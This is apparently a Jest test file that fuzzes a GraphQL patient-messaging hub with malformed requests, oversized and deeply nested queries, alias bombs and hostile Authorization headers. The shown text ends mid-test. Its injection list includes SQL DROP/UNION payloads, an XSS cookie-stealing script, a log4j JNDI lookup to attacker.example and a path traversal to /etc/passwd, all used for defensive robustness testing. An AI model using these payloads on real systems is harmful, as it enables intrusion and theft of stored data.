/**
 * Hostile requests over real HTTP against a hub seeded with the demo data: malformed and
 * non-JSON bodies, oversized and over-complex documents, batches, injection strings in
 * every string argument, invalid NHS numbers and huge lists. Whatever arrives, the hub
 * answers below HTTP 500, never INTERNAL_SERVER_ERROR, and only with the contract's error
 * codes; afterwards it still answers normally and its data is intact.
 */
import { createApiKey } from '../../src/auth/apiKeys';
import { Role } from '../../src/vocabulary/roles';
import type { Hub } from '../../src/hub';
import { getNamedType, type GraphQLInputType, isInputObjectType } from 'graphql';
import { buildHubSchema } from '../../src/graphql/schema';
import { DEMO_TEMPLATE, demoNhsNumbers, seedDemoData } from '../../src/seed/demoSeed';
import { ManualClock } from '../../src/shared/clock';
import { givenPatient } from '../support/fixtures';
import { errorCodes, servedErrorCodes, httpGraphql, type HttpAnswer, type RawRequest } from '../support/httpProbe';
import { validSend } from '../support/sending';
import { createTestHub, startTestServer, type TestServer } from '../support/testHub';

const CONTRACT_CODES = servedErrorCodes();
const DEMO_PATIENT = demoNhsNumbers(1)[0];
/** Not demo patients: the mutations below may change them. */
const SEND_TARGET = '9434765919';
const UPSERT_TARGET = '9434765870';

let hub: Hub;
let server: TestServer;
let adminKey: string;
let seededMessageIds: string[];
let demoOutboundMessageId: string;
let sentCount = 0;
let ingestSequence = 0;

const INJECTIONS: Array<[string, string]> = [
  ['sql tautology', "' OR 1=1 --"],
  ['sql drop (single quote)', "'; DROP TABLE messages; --"],
  ['sql drop (double quote)', '"; DROP TABLE messages; --'],
  ['sql union', "1' UNION SELECT key_hash, key_prefix FROM api_keys --"],
  ['sql sleep', "1; SELECT SLEEP(5); --"],
  ['nosql operator', '{"$gt": ""}'],
  ['nosql where', '{"$where": "sleep(1000)"}'],
  ['script tag', '<script>alert(document.cookie)</script>'],
  ['log4j lookup', '${jndi:ldap://attacker.example/a}'],
  ['nul byte', '\u0000'],
  ['embedded nul', 'A81001\u0000DROP'],
  ['like wildcards', '%_%!\\'],
  ['very long', 'x'.repeat(100_000)],
  ['rtl override', '\u202Etxt.exe\u202D'],
  ['emoji and combining marks', '😀🏥e\u0301\u200D'],
  ['path traversal', '../../../../etc/passwd'],
  ['blank', '   '],
  ['empty', ''],
];

interface Target {
  name: string;
  query: string;
  variables: (value: string) => Record<string, unknown>;
}

function sendInputWith(field: string, value: string): Record<string, unknown> {
  return validSend({ nhsNumber: SEND_TARGET, [field]: value });
}

function patientInputWith(field: string, value: string): Record<string, unknown> {
  return { nhsNumber: UPSERT_TARGET, givenName: 'John', familyName: 'Jones', dateOfBirth: '1975-06-01', mobileNumber: '07700900456', email: 'john.jones@example.com', postalAddress: '2 High Street, Leeds, LS1 4AB', nhsAppUser: true, gpPracticeOdsCode: 'A81001', [field]: value };
}

function ingestInputWith(field: string, value: string): Record<string, unknown> {
  return { nhsNumber: DEMO_PATIENT, organisationOdsCode: 'A81001', category: 'IM1_PFS', direction: 'INBOUND', subject: 'A question', body: 'Can I collect my prescription on Friday?', sourceReference: `hostile-${(ingestSequence += 1)}`, [field]: value };
}

const SEND = 'mutation ($input: SendMessageInput!) { sendMessage(input: $input) { replayed message { id status subject body purpose idempotencyKey } } }';
const SEND_MANY = 'mutation ($m: [SendMessageInput!]!) { sendMessages(input: { messages: $m }) { accepted rejected results { index error { code message } message { id } } } }';
const INGEST = 'mutation ($i: IngestMessageInput!) { ingestMessage(input: $i) { id subject body } }';
const UPSERT_PATIENT = 'mutation ($i: PatientInput!) { upsertPatient(input: $i) { nhsNumber givenName familyName dateOfBirth mobileNumber email postalAddress gpPractice { odsCode } } }';

/** Every string argument (and string input field) of every query and mutation. */
const TARGETS: Target[] = [
  { name: 'patients(search)', query: 'query ($s: String) { patients(first: 5, search: $s) { totalCount edges { node { nhsNumber givenName } } } }', variables: (s) => ({ s }) },
  { name: 'patients(after)', query: 'query ($s: String) { patients(first: 5, after: $s) { totalCount edges { cursor } } }', variables: (s) => ({ s }) },
  { name: 'patient(nhsNumber)', query: 'query ($s: NhsNumber!) { patient(nhsNumber: $s) { nhsNumber } }', variables: (s) => ({ s }) },
  { name: 'Patient.messages(after)', query: `query ($s: String) { patient(nhsNumber: "${DEMO_PATIENT}") { messages(first: 5, after: $s) { totalCount } } }`, variables: (s) => ({ s }) },
  { name: 'Patient.messages(filter.organisationOdsCode)', query: `query ($s: String) { patient(nhsNumber: "${DEMO_PATIENT}") { messages(filter: { organisationOdsCode: $s }) { totalCount } } }`, variables: (s) => ({ s }) },
  { name: 'message(id)', query: 'query ($s: ID!) { message(id: $s) { id body } }', variables: (s) => ({ s }) },
  { name: 'messages(after)', query: 'query ($s: String) { messages(first: 5, after: $s) { totalCount edges { cursor } } }', variables: (s) => ({ s }) },
  { name: 'messages(filter.organisationOdsCode)', query: 'query ($s: String) { messages(first: 5, filter: { organisationOdsCode: $s }) { totalCount } }', variables: (s) => ({ s }) },
  { name: 'messages(filter.nhsNumber)', query: 'query ($s: NhsNumber) { messages(first: 5, filter: { nhsNumber: $s }) { totalCount } }', variables: (s) => ({ s }) },
  { name: 'messages(filter.createdAfter)', query: 'query ($s: DateTime) { messages(first: 5, filter: { createdAfter: $s }) { totalCount } }', variables: (s) => ({ s }) },
  { name: 'messages(filter.createdBefore)', query: 'query ($s: DateTime) { messages(first: 5, filter: { createdBefore: $s }) { totalCount } }', variables: (s) => ({ s }) },
  { name: 'organisation(odsCode)', query: 'query ($s: String!) { organisation(odsCode: $s) { odsCode name } }', variables: (s) => ({ s }) },
  { name: 'deliveryMetrics(filter.organisationOdsCodes)', query: 'query ($s: String!) { deliveryMetrics(filter: { from: "2026-01-01T00:00:00Z", to: "2026-04-01T00:00:00Z", organisationOdsCodes: [$s, "A81001"] }, groupBy: [ORGANISATION]) { organisationOdsCode messages } }', variables: (s) => ({ s }) },
  { name: 'deliveryMetrics(filter.from)', query: 'query ($s: DateTime!) { deliveryMetrics(filter: { from: $s, to: "2026-04-01T00:00:00Z" }) { messages } }', variables: (s) => ({ s }) },
  { name: 'deliveryMetrics(filter.to)', query: 'query ($s: DateTime!) { deliveryMetrics(filter: { from: "2026-01-01T00:00:00Z", to: $s }) { messages } }', variables: (s) => ({ s }) },
  { name: 'latestEventId(before)', query: 'query ($s: DateTime) { latestEventId(before: $s) }', variables: (s) => ({ s }) },
  { name: 'auditEvents(after)', query: 'query ($s: String) { auditEvents(first: 5, after: $s) { totalCount } }', variables: (s) => ({ s }) },
  { name: 'auditEvents(filter.action)', query: 'query ($s: String) { auditEvents(first: 5, filter: { action: $s }) { totalCount } }', variables: (s) => ({ s }) },
  { name: 'auditEvents(filter.apiKeyId)', query: 'query ($s: ID) { auditEvents(first: 5, filter: { apiKeyId: $s }) { totalCount } }', variables: (s) => ({ s }) },
  { name: 'auditEvents(filter.nhsNumber)', query: 'query ($s: NhsNumber) { auditEvents(first: 5, filter: { nhsNumber: $s }) { totalCount } }', variables: (s) => ({ s }) },
  { name: 'auditEvents(filter.from)', query: 'query ($s: DateTime) { auditEvents(first: 5, filter: { from: $s }) { totalCount } }', variables: (s) => ({ s }) },
  { name: 'auditEvents(filter.to)', query: 'query ($s: DateTime) { auditEvents(first: 5, filter: { to: $s }) { totalCount } }', variables: (s) => ({ s }) },

  { name: 'createApiKey(role)', query: 'mutation ($s: String!) { createApiKey(input: { role: $s, name: "hostile" }) { apiKey { id } } }', variables: (s) => ({ s }) },
  { name: 'createApiKey(organisationOdsCode)', query: 'mutation ($s: String) { createApiKey(input: { role: "SENDER", organisationOdsCode: $s }) { apiKey { id } } }', variables: (s) => ({ s }) },
  { name: 'createApiKey(name)', query: 'mutation ($s: String) { createApiKey(input: { role: "ANALYST", name: $s }) { apiKey { id name } } }', variables: (s) => ({ s }) },
  { name: 'revokeApiKey(id)', query: 'mutation ($s: ID!) { revokeApiKey(id: $s) }', variables: (s) => ({ s }) },
  { name: 'upsertOrganisation(odsCode)', query: 'mutation ($s: String!) { upsertOrganisation(input: { odsCode: $s, name: "Hostile Clinic", type: OTHER }) { odsCode name } }', variables: (s) => ({ s }) },
  { name: 'upsertOrganisation(name)', query: 'mutation ($s: String!) { upsertOrganisation(input: { odsCode: "ZZ901", name: $s, type: OTHER }) { odsCode name } }', variables: (s) => ({ s }) },
  ...['nhsNumber', 'givenName', 'familyName', 'dateOfBirth', 'mobileNumber', 'email', 'postalAddress', 'gpPracticeOdsCode'].map((field) => ({
    name: `upsertPatient(${field})`,
    query: UPSERT_PATIENT,
    variables: (s: string) => ({ i: patientInputWith(field, s) }),
  })),
  { name: 'updateChannelPreferences(nhsNumber)', query: 'mutation ($s: NhsNumber!) { updateChannelPreferences(input: { nhsNumber: $s, notificationsEnabled: true }) { notificationsEnabled } }', variables: (s) => ({ s }) },
  ...['nhsNumber', 'organisationOdsCode', 'subject', 'body', 'purpose', 'idempotencyKey', 'expiresAt'].flatMap((field) => [
    { name: `sendMessage(${field})`, query: SEND, variables: (s: string) => ({ input: sendInputWith(field, s) }) },
    { name: `sendMessages(${field})`, query: SEND_MANY, variables: (s: string) => ({ m: [sendInputWith(field, s)] }) },
  ]),
  { name: 'cancelMessage(id)', query: 'mutation ($s: ID!) { cancelMessage(id: $s) { id status } }', variables: (s) => ({ s }) },
  { name: 'markMessageRead(id)', query: 'mutation ($s: ID!) { markMessageRead(id: $s) { id status } }', variables: (s) => ({ s }) },
  ...['nhsNumber', 'organisationOdsCode', 'subject', 'body', 'sourceReference', 'occurredAt'].map((field) => ({
    name: `ingestMessage(${field})`,
    query: INGEST,
    variables: (s: string) => ({ i: ingestInputWith(field, s) }),
  })),
  { name: 'recordDeliveryReceipt(attemptId)', query: 'mutation ($s: ID) { recordDeliveryReceipt(input: { attemptId: $s, status: DELIVERED }) { id status } }', variables: (s) => ({ s }) },
  { name: 'recordDeliveryReceipt(providerReference)', query: 'mutation ($s: String) { recordDeliveryReceipt(input: { providerReference: $s, status: DELIVERED }) { id status } }', variables: (s) => ({ s }) },
  { name: 'recordDeliveryReceipt(occurredAt)', query: 'mutation ($s: DateTime) { recordDeliveryReceipt(input: { providerReference: "no-such-reference", status: DELIVERED, occurredAt: $s }) { id } }', variables: (s) => ({ s }) },
  { name: 'reportMessage(messageId)', query: 'mutation ($s: ID!) { reportMessage(input: { messageId: $s, reason: OTHER, comment: "hostile" }) { id } }', variables: (s) => ({ s }) },
  { name: 'messageTemplate(id)', query: 'query ($s: ID!) { messageTemplate(id: $s) { id name } }', variables: (s) => ({ s }) },
  { name: 'messageTemplates(after)', query: 'query ($s: String) { messageTemplates(first: 5, after: $s) { totalCount } }', variables: (s) => ({ s }) },
  { name: 'messageTemplates(organisationOdsCode)', query: 'query ($s: String) { messageTemplates(first: 5, organisationOdsCode: $s) { totalCount } }', variables: (s) => ({ s }) },
  ...['templateId', 'nhsNumber', 'personalisation.name', 'personalisation.value'].map((field) => ({
    name: `previewTemplate(${field})`,
    query: 'query ($t: ID!, $n: NhsNumber!, $p: [PersonalisationInput!]) { previewTemplate(templateId: $t, nhsNumber: $n, personalisation: $p) { subject body } }',
    variables: (s: string) => ({
      t: field === 'templateId' ? s : DEMO_TEMPLATE.id,
      n: field === 'nhsNumber' ? s : DEMO_PATIENT,
      p: [{ name: field === 'personalisation.name' ? s : 'clinicDate', value: field === 'personalisation.value' ? s : 'Saturday 14 March' }],
    }),
  })),
  { name: 'saveMessageTemplate(id)', query: 'mutation ($s: ID) { saveMessageTemplate(id: $s, input: { organisationOdsCode: "A81001", name: "Hostile", category: NHS_APP_MESSAGING, body: "Hello ((givenName)).", legalBasis: DIRECT_CARE, purpose: "Testing" }) { id } }', variables: (s) => ({ s }) },
  ...['organisationOdsCode', 'name', 'subject', 'body', 'purpose'].map((field) => ({
    name: `saveMessageTemplate(${field})`,
    query: 'mutation ($i: MessageTemplateInput!) { saveMessageTemplate(input: $i) { id placeholders } }',
    variables: (s: string) => ({ i: { organisationOdsCode: 'A81001', name: 'Hostile template', category: 'NHS_APP_MESSAGING', subject: 'Hello', body: 'Hello ((givenName)).', legalBasis: 'DIRECT_CARE', purpose: 'Testing', [field]: s } }),
  })),
  { name: 'archiveMessageTemplate(id)', query: 'mutation ($s: ID!) { archiveMessageTemplate(id: $s) { id archived } }', variables: (s) => ({ s }) },
  ...['templateId', 'expiresAt', 'recipients.nhsNumber', 'recipients.idempotencyKey', 'recipients.personalisation.name', 'recipients.personalisation.value'].map((field) => ({
    name: `sendFromTemplate(${field})`,
    query: 'mutation ($i: SendFromTemplateInput!) { sendFromTemplate(input: $i) { accepted rejected results { error { code } } } }',
    variables: (s: string) => ({
      i: {
        templateId: field === 'templateId' ? s : DEMO_TEMPLATE.id,
        ...(field === 'expiresAt' ? { expiresAt: s } : {}),
        recipients: [
          {
            nhsNumber: field === 'recipients.nhsNumber' ? s : DEMO_PATIENT,
            ...(field === 'recipients.idempotencyKey' ? { idempotencyKey: s } : {}),
            personalisation: [{ name: field === 'recipients.personalisation.name' ? s : 'clinicDate', value: field === 'recipients.personalisation.value' ? s : 'Saturday 14 March' }],
          },
        ],
      },
    }),
  })),
  { name: 'statusCallbacks(organisationOdsCode)', query: 'query ($s: String) { statusCallbacks(organisationOdsCode: $s) { id } }', variables: (s) => ({ s }) },
  { name: 'createStatusCallback(organisationOdsCode)', query: 'mutation ($s: String!) { createStatusCallback(input: { organisationOdsCode: $s, url: "https://callbacks.example.nhs.uk/hub" }) { callback { id } } }', variables: (s) => ({ s }) },
  { name: 'createStatusCallback(url)', query: 'mutation ($s: String!) { createStatusCallback(input: { organisationOdsCode: "A81001", url: $s }) { callback { id } } }', variables: (s) => ({ s }) },
  { name: 'deleteStatusCallback(id)', query: 'mutation ($s: ID!) { deleteStatusCallback(id: $s) { id } }', variables: (s) => ({ s }) },
  { name: 'reportMessage(comment)', query: 'mutation ($m: ID!, $s: String) { reportMessage(input: { messageId: $m, reason: OTHER, comment: $s }) { id comment } }', variables: (s) => ({ m: demoOutboundMessageId, s }) },
];

/** The same strings written into the document itself rather than passed as variables. */
const INLINE_TARGETS: Array<{ name: string; query: (literal: string) => string }> = [
  { name: 'organisation(odsCode: "…")', query: (l) => `{ organisation(odsCode: ${l}) { odsCode } }` },
  { name: 'patients(search: "…")', query: (l) => `{ patients(first: 5, search: ${l}) { totalCount } }` },
  { name: 'message(id: "…")', query: (l) => `{ message(id: ${l}) { id } }` },
  { name: 'messages(filter: { organisationOdsCode: "…" })', query: (l) => `{ messages(first: 5, filter: { organisationOdsCode: ${l} }) { totalCount } }` },
  { name: 'cancelMessage(id: "…")', query: (l) => `mutation { cancelMessage(id: ${l}) { id } }` },
];

async function hostile(request: RawRequest, key: string | null = adminKey): Promise<HttpAnswer> {
  sentCount += 1;
  return httpGraphql(server.port, { ...request, headers: { ...(key ? { authorization: `Bearer ${key}` } : {}), ...request.headers } });
}

/** What is wrong with an answer to a hostile request; an empty list when nothing is. */
function problemsWith(label: string, answer: HttpAnswer): string[] {
  const problems: string[] = [];
  if (answer.status >= 500) problems.push(`${label}: HTTP ${answer.status}`);
  if (answer.text.includes('INTERNAL_SERVER_ERROR')) problems.push(`${label}: INTERNAL_SERVER_ERROR in ${answer.text.slice(0, 300)}`);
  if (answer.body === null) {
    problems.push(`${label}: the answer is not JSON: ${answer.text.slice(0, 200)}`);
    return problems;
  }
  for (const error of answer.body.errors ?? []) {
    const code = error.extensions?.code;
    if (typeof code !== 'string' || !CONTRACT_CODES.includes(code)) problems.push(`${label}: error code ${String(code)} is not in the contract (${error.message.slice(0, 200)})`);
  }
  // a batch answers errors per item, inside data
  for (const result of answer.body.data?.sendMessages?.results ?? []) {
    if (result.error && !CONTRACT_CODES.includes(result.error.code)) problems.push(`${label}: item error ${result.error.code}`);
  }
  return problems;
}

async function expectNoProblems(cases: Array<[string, RawRequest]>, key: string | null = adminKey, extra?: (label: string, answer: HttpAnswer) => string[]): Promise<HttpAnswer[]> {
  const problems: string[] = [];
  const answers: HttpAnswer[] = [];
  for (const [label, request] of cases) {
    const answer = await hostile(request, key);
    answers.push(answer);
    problems.push(...problemsWith(label, answer), ...(extra?.(label, answer) ?? []));
  }
  expect(problems).toEqual([]);
  return answers;
}

function graphqlBody(query: string, variables?: Record<string, unknown>): RawRequest {
  return { body: { query, variables } };
}

/** Every answer is a refusal: 4xx, no data, and the codes given. */
const refusedWith =
  (codes: string[], status?: number) =>
  (label: string, answer: HttpAnswer): string[] => {
    const problems: string[] = [];
    // refusals before execution are 4xx; a resolver's refusal is a GraphQL error in a 200
    if (status !== undefined ? answer.status !== status : answer.status >= 500) problems.push(`${label}: HTTP ${answer.status}, expected ${status ?? 'below 500'}`);
    if (answer.body?.data) problems.push(`${label}: answered data ${JSON.stringify(answer.body.data).slice(0, 100)}`);
    const got = errorCodes(answer);
    if (got.length === 0 || got.some((c) => !codes.includes(c))) problems.push(`${label}: codes ${JSON.stringify(got)}, expected only ${codes.join(' or ')}`);
    return problems;
  };

async function messageCount(): Promise<number> {
  return Number((await hub.db.dataSource.query('SELECT COUNT(*) AS n FROM messages'))[0].n);
}

beforeAll(async () => {
  hub = await createTestHub({ clock: new ManualClock('2026-03-10T10:00:00Z'), env: { MAX_MESSAGES_PER_PATIENT_PER_DAY: '100000' } });
  await seedDemoData(hub.db, hub.clock.now());
  await givenPatient(hub, { nhsNumber: SEND_TARGET });
  await givenPatient(hub, { nhsNumber: UPSERT_TARGET, givenName: 'John', familyName: 'Jones' });
  server = await startTestServer(hub);
  adminKey = server.adminKey;
  seededMessageIds = (await hub.db.dataSource.query('SELECT id FROM messages ORDER BY id')).map((r: { id: string }) => r.id);
  const [outbound] = await hub.db.dataSource.query("SELECT id FROM messages WHERE direction = 'OUTBOUND' ORDER BY id LIMIT 1");
  demoOutboundMessageId = outbound.id;
});

afterAll(async () => {
  await server?.stop();
  await hub?.close();
});

describe('the documented README examples are not refused by the complexity limits', () => {
  const EXAMPLES: Array<[string, string, Record<string, unknown>?]> = [
    [
      'send a message',
      `mutation {
        sendMessage(input: {
          nhsNumber: "999 000 0018"
          organisationOdsCode: "A81001"
          category: NHS_APP_MESSAGING
          subject: "Your flu vaccination"
          body: "# Flu vaccination\\n\\nYou can now book your free flu vaccination.\\n\\n[Book your vaccination](https://www.nhs.uk/vaccinations/flu-vaccine/)\\n\\nThank you."
          legalBasis: DIRECT_CARE
          purpose: "Seasonal flu invitation"
          idempotencyKey: "flu-2026-9990000018"
          routing: { unreadFallbackHours: 24, nudgeWhenUnnotified: true }
        }) {
          replayed
          message { id status scheduledFor contentReport { readingGrade wordCount smsFragments warnings } }
        }
      }`,
    ],
    [
      "a patient's unified timeline with delivery attempts",
      `{
        patient(nhsNumber: "9990000018") {
          givenName familyName nhsAppUser
          gpPractice { name }
          channelPreferences { notificationsEnabled pendingNotificationsEnabled pendingEffectiveAt optedOutChannels fallbackOrder }
          messages(first: 10) {
            totalCount
            edges { node { category direction subject status fallbackUsed deliveredChannel
              deliveryAttempts { sequence channel status failureReason retryCount } } }
            pageInfo { hasNextPage endCursor }
          }
        }
      }`,
    ],
    [
      'find patients, page through messages with organisation { name }, and the categories',
      `{
        patients(first: 20, search: "smith") { totalCount edges { node { nhsNumber givenName familyName } } pageInfo { endCursor hasNextPage } }
        messages(first: 50, filter: { statuses: [FAILED], categories: [NHS_APP_MESSAGING], createdAfter: "2026-11-01T00:00:00Z" }) {
          totalCount edges { cursor node { id subject organisation { name } } }
        }
        messagingCategories { category name directions supportsFallback supportsReplies sendsNotifications }
      }`,
    ],
    [
      'the messages list with organisation { name }, without filters',
      '{ messages(first: 50) { totalCount edges { cursor node { id subject organisation { name } } } pageInfo { hasNextPage endCursor } } }',
    ],
    [
      'the audit log for one patient',
      `{ auditEvents(first: 20, filter: { nhsNumber: "9990000018", action: "PATIENT_DATA_READ" }) {
          totalCount edges { node { occurredAt apiKeyId role action operation nhsNumber fields outcome } } } }`,
    ],
    [
      'delivery metrics for analysts',
      `query {
        deliveryMetrics(
          filter: { from: "2026-10-01T00:00:00Z", to: "2026-10-31T00:00:00Z", categories: [NHS_APP_MESSAGING] }
          groupBy: [ORGANISATION, DAY]
        ) {
          organisationOdsCode bucketStart messages delivered read failed fallbacks
          deliveryRate readRate fallbackRate medianSecondsToDeliver p95SecondsToDeliver
          smsFragmentsAvoided smsFragmentsSent smsCostAvoidedPence smsCostSpentPence patientReports
        }
      }`,
    ],
    [
      'a batch of sends',
      `mutation($messages: [SendMessageInput!]!) {
        sendMessages(input: { messages: $messages }) { accepted rejected results { index replayed error { code message } message { id } } }
      }`,
      { messages: [validSend({ nhsNumber: '9990000026' }), validSend({ nhsNumber: '9990000034', idempotencyKey: 'readme-batch-2' })] },
    ],
  ];

  for (const [name, query, variables] of EXAMPLES) {
    it(name, async () => {
      const answer = await hostile(graphqlBody(query, variables));
      expect(errorCodes(answer)).not.toContain('QUERY_TOO_COMPLEX');
      expect(answer.text).not.toMatch(/limit of \d+ exceeded|more th[ae]n \d+ tokens/i);
      expect(answer.body?.errors).toBeUndefined();
      expect(answer.status).toBe(200);
      expect(answer.body?.data).toBeTruthy();
    });
  }

  it('answers them with the demo data', async () => {
    const answer = await hostile(graphqlBody(EXAMPLES[1][1]));
    expect(answer.body!.data.patient).toMatchObject({ givenName: 'Amelia', familyName: 'Smith', gpPractice: { name: expect.any(String) } });
    expect(answer.body!.data.patient.messages.edges.length).toBeGreaterThan(0);
    const batch = await hostile(graphqlBody(EXAMPLES.find(([name]) => name === 'a batch of sends')![1], { messages: [validSend({ nhsNumber: '9990000042' })] }));
    expect(batch.body!.data.sendMessages.results).toHaveLength(1);
  });
});

describe('malformed requests', () => {
  it('malformed JSON bodies answer 400 BAD_USER_INPUT', async () => {
    const bodies = [
      '{',
      '{"query": ',
      '{"query": "{ messagingCategories { category } }"',
      'not json at all',
      '\u0000',
      '{"query": "{ __typename }",}',
      "{'query': '{ __typename }'}",
      'NaN',
      '[',
      '{"query": "{ __typename }"}}',
      '{"query": "{ __typename }" "variables": {}}',
      '{"query": "\\x41"}',
      `${'['.repeat(5000)}${']'.repeat(4999)}`,
      '{"query": "{ __typename }", "variables": {"a": 01}}',
      '\uFEFF{"query": "{ __typename }"}',
    ];
    await expectNoProblems(
      bodies.map((body, i) => [`malformed #${i}`, { body, headers: { 'content-type': 'application/json' } }]),
      adminKey,
      refusedWith(['BAD_USER_INPUT'], 400),
    );
    await expectNoProblems([['invalid utf-8 bytes', { body: Buffer.from([0x7b, 0xff, 0xfe, 0xfd, 0x7d]), headers: { 'content-type': 'application/json' } }]], adminKey, refusedWith(['BAD_USER_INPUT'], 400));
  });

  it('JSON that is not a GraphQL request answers 400 BAD_USER_INPUT', async () => {
    const bodies: unknown[] = [null, 'a string', 42, true, {}, { query: null }, { query: 42 }, { query: ['{ __typename }'] }, { query: { nested: true } }, { variables: {} }];
    const more: Array<[string, RawRequest]> = [
      ['variables is a string', graphqlBody('{ __typename }', 'not an object' as unknown as Record<string, unknown>)],
      ['variables is an array', { body: { query: '{ __typename }', variables: [1, 2] } }],
      ['operationName is a number', { body: { query: '{ __typename }', operationName: 42 } }],
      ['extensions is a string', { body: { query: '{ __typename }', extensions: 'x' } }],
      ['unknown operationName', { body: { query: 'query A { __typename } query B { __typename }', operationName: 'C' } }],
      ['two operations, no operationName', { body: { query: 'query A { __typename } query B { __typename }' } }],
      ['persisted query hash only', { body: { extensions: { persistedQuery: { version: 1, sha256Hash: 'a'.repeat(64) } } } }],
    ];
    await expectNoProblems([...bodies.map((body, i): [string, RawRequest] => [`not a request #${i}: ${JSON.stringify(body)}`, { body: JSON.stringify(body), headers: { 'content-type': 'application/json' } }]), ...more], adminKey, refusedWith(['BAD_USER_INPUT']));
  });

  it('non-JSON content types are refused and nothing runs', async () => {
    const query = '{ messagingCategories { category } }';
    const types = ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'application/xml', 'application/graphql', 'text/html', 'application/octet-stream', 'image/png'];
    const cases: Array<[string, RawRequest]> = types.map((type) => [`content-type ${type}`, { body: type.includes('urlencoded') ? `query=${encodeURIComponent(query)}` : query, headers: { 'content-type': type } }]);
    cases.push(['no content-type', { body: query }]);
    cases.push(['xml body with json content-type', { body: '<?xml version="1.0"?><query>{ __typename }</query>', headers: { 'content-type': 'application/json' } }]);
    await expectNoProblems(cases, adminKey, refusedWith(['BAD_USER_INPUT'], 400));
  });

  it('empty bodies and empty GET requests are refused', async () => {
    const cases: Array<[string, RawRequest]> = [
      ['empty body, json', { body: '', headers: { 'content-type': 'application/json' } }],
      ['empty body, no content-type', { body: '' }],
      ['no body at all', {}],
      ['whitespace', { body: '   \n\t ', headers: { 'content-type': 'application/json' } }],
      ['empty object', { body: '{}', headers: { 'content-type': 'application/json' } }],
      ['empty query', { body: { query: '' } }],
      ['blank query', { body: { query: '   ' } }],
      ['GET without a query', { method: 'GET', headers: { 'apollo-require-preflight': 'true' } }],
      ['GET with an empty query', { method: 'GET', search: '?query=', headers: { 'apollo-require-preflight': 'true' } }],
      ['GET with bad variables', { method: 'GET', search: `?query=${encodeURIComponent('{ __typename }')}&variables=%7B`, headers: { 'apollo-require-preflight': 'true' } }],
      ['GET with a mutation', { method: 'GET', search: `?query=${encodeURIComponent('mutation { cancelMessage(id: "x") { id } }')}`, headers: { 'apollo-require-preflight': 'true' } }],
      ['PUT', { method: 'PUT', body: { query: '{ __typename }' } }],
      ['DELETE', { method: 'DELETE' }],
    ];
    const problems: string[] = [];
    for (const [label, request] of cases) {
      const answer = await hostile(request);
      problems.push(...problemsWith(label, answer));
      if (answer.status < 400) problems.push(`${label}: HTTP ${answer.status}`);
      if (answer.body?.data) problems.push(`${label}: answered data`);
    }
    expect(problems).toEqual([]);
  });

  it('oversized documents (> 1 MiB) answer 413', async () => {
    const big = (bytes: number) => JSON.stringify({ query: `{ messagingCategories { category } } # ${'x'.repeat(bytes)}` });
    const bigVariables = JSON.stringify({ query: SEND, variables: { input: validSend({ nhsNumber: SEND_TARGET, body: 'y'.repeat(2 * 1024 * 1024) }) } });
    const before = await messageCount();
    await expectNoProblems(
      [
        ['1 MiB + 1 of comment', { body: big(1024 * 1024 + 1), headers: { 'content-type': 'application/json' } }],
        ['5 MiB of comment', { body: big(5 * 1024 * 1024), headers: { 'content-type': 'application/json' } }],
        ['a 2 MiB message body', { body: bigVariables, headers: { 'content-type': 'application/json' } }],
        ['2 MiB of text/plain', { body: 'z'.repeat(2 * 1024 * 1024), headers: { 'content-type': 'text/plain' } }],
      ],
      adminKey,
      refusedWith(['BAD_USER_INPUT'], 413),
    );
    expect(await messageCount()).toBe(before);
  });

  it('a subscription sent over HTTP is refused, not run', async () => {
    await expectNoProblems(
      [
        ['deliveryEvents over HTTP', graphqlBody('subscription { deliveryEvents { id type } }')],
        ['fallbackEvents over HTTP, with after', graphqlBody('subscription { fallbackEvents(after: "0") { id } }')],
        ['deliveryEvents over HTTP, hostile filter', graphqlBody('subscription { deliveryEvents(filter: { organisationOdsCodes: ["\' OR 1=1 --"], messageId: "<script>" }, after: "1 OR 1=1") { id } }')],
      ],
      adminKey,
      refusedWith(['BAD_USER_INPUT']),
    );
  });

  it('hostile Authorization headers answer 401 UNAUTHENTICATED', async () => {
    const values = [
      "Bearer ' OR 1=1 --",
      "Bearer nhk_' OR 1=1 --",
      'Bearer nhk_',
      `Bearer nhk_${'A'.repeat(8000)}`,
      'Basic YWRtaW46YWRtaW4=',
      'Bearer',
      'Bearer ${jndi:ldap://attacker.example/a}',
      `Bearer ${adminKey} ${adminKey}`,
      `${adminKey}`,
      'Bearer nhk_%00',
    ];
    await expectNoProblems(
      values.map((value, i) => [`authorization #${i}`, { body: { query: '{ messagingCategories { category } }' }, headers: { authorization: value } }]),
      null,
      refusedWith(['UNAUTHENTICATED'], 401),
    );
  });
});

describe('documents over the limits answer QUERY_TOO_COMPLEX', () => {
  const tooComplex = refusedWith(['QUERY_TOO_COMPLEX']);

  function nestedAttempts(levels: number): string {
    // message { deliveryAttempts { message { deliveryAttempts { … } } } }
    let inner = 'id';
    for (let i = 0; i < levels; i += 1) inner = `message { deliveryAttempts { ${inner} } }`;
    return inner;
  }

  it('deeply nested queries', async () => {
    let patientLoop = 'nhsNumber';
    for (let i = 0; i < 10; i += 1) patientLoop = `messages(first: 1) { edges { node { patient { ${patientLoop} } } } }`;
    let fragments = 'fragment F0 on DeliveryAttempt { id }';
    for (let i = 1; i <= 19; i += 1) fragments += ` fragment F${i} on ${i % 2 ? 'Message' : 'DeliveryAttempt'} { ${i % 2 ? 'deliveryAttempts' : 'message'} { ...F${i - 1} } }`;
    let introspection = 'name';
    for (let i = 0; i < 15; i += 1) introspection = `ofType { ${introspection} }`;
    await expectNoProblems(
      [
        ['message → deliveryAttempts → message … 20 levels', graphqlBody(`query ($id: ID!) { message(id: $id) { deliveryAttempts { ${nestedAttempts(20)} } } }`, { id: seededMessageIds[0] })],
        ['messages → node → deliveryAttempts → message … 20 levels', graphqlBody(`{ messages(first: 1) { edges { node { deliveryAttempts { ${nestedAttempts(20)} } } } } }`)],
        ['patient → messages → patient … 10 times', graphqlBody(`{ patient(nhsNumber: "${DEMO_PATIENT}") { ${patientLoop} } }`)],
        ['nesting through 20 fragments (F0 … F19)', graphqlBody(`{ messages(first: 1) { edges { node { ...F19 } } } } ${fragments}`)],
      ],
      adminKey,
      tooComplex,
    );
    // graphql-armor leaves introspection out of the depth count; a deep one is still harmless
    await expectNoProblems([['introspection 15 levels deep', graphqlBody(`{ __schema { types { fields { type { ${introspection} } } } } }`)]]);
  });

  it('alias bombs', async () => {
    const aliases = (n: number, field: string) => Array.from({ length: n }, (_, i) => `a${i}: ${field}`).join(' ');
    await expectNoProblems(
      [
        ['50 aliases of messagingCategories', graphqlBody(`{ ${aliases(50, 'messagingCategories { category }')} }`)],
